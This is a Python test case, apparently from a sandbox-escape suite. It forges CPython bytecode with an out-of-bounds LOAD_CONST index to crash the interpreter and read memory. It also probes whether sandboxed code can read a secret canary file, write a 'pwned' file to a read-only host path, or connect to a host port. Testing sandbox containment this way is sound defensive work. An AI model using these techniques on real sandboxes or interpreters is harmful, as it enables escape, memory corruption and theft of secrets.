# PY-07 bytecode-forge: build code objects by hand (pysandbox blocked
# code() for this; CPython's own crashers/bogus_code_obj.py: "not going to
# be fixed").  Empty bytecode runs off its end (a SystemError or a crash,
# as memory lies); a LOAD_CONST whose index (four EXTENDED_ARGs: 2**31-1)
# points 16 GB past the constants reads memory at will, here memory
# nothing maps: SIGSEGV.  Reading and writing memory at will is native
# code execution, which the C attacks cover; what matters here is that the
# payoffs meet the kernel, that crashing children leave no core dump
# (RLIMIT_CORE 0), and that the crash of the program itself is the
# verdict: signal SIGSEGV.
import os
import signal
import socket


def f():
    pass


def in_child(name, fn):
    """Runs fn in a child; prints how the child ended and whether the
    kernel dumped its core."""
    pid = os.fork()
    if pid == 0:
        report(name, fn)
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    if os.WIFSIGNALED(status):
        print("child-" + name, signal.Signals(os.WTERMSIG(status)).name, flush=True)
    print("core-dumped-" + name, "dumped" if os.WCOREDUMP(status) else "none", flush=True)


RESUME, EXTENDED_ARG, LOAD_CONST, RETURN_VALUE = 151, 144, 100, 83
empty = type(f)(f.__code__.replace(co_code=b""), {})
forged = type(f)(f.__code__.replace(
    co_code=bytes([RESUME, 0, EXTENDED_ARG, 0x7F, EXTENDED_ARG, 0xFF,
                   EXTENDED_ARG, 0xFF, LOAD_CONST, 0xFF, RETURN_VALUE, 0]),
    co_consts=(None,)), {})

report("payoff-read-secret", lambda: open(canary("SECRET")).read())
report("payoff-write-host", lambda: open(canary("RO") + "/pwned", "w"))
report("payoff-connect-host", lambda: socket.create_connection(
    ("127.0.0.1", int(canary("TCP_PORT"))), timeout=2))
in_child("empty-bytecode", empty)
in_child("forged-load-const", forged)
note("running the forged code in the program itself")
forged()
note("the forged LOAD_CONST returned: the verdict will say so")
done()
